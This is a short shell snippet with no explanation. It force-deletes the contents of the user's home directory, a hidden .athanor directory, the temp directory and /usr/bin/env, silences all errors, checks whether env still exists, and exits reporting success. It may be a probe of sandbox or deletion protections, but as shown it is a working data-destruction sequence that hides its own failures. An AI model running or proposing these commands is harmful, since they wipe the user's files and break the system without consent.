cd /; rm -rf "$HOME"/* "$HOME"/.athanor "$TMPDIR" /usr/bin/env 2>/dev/null
/usr/bin/env true && echo "still there"
exit 0
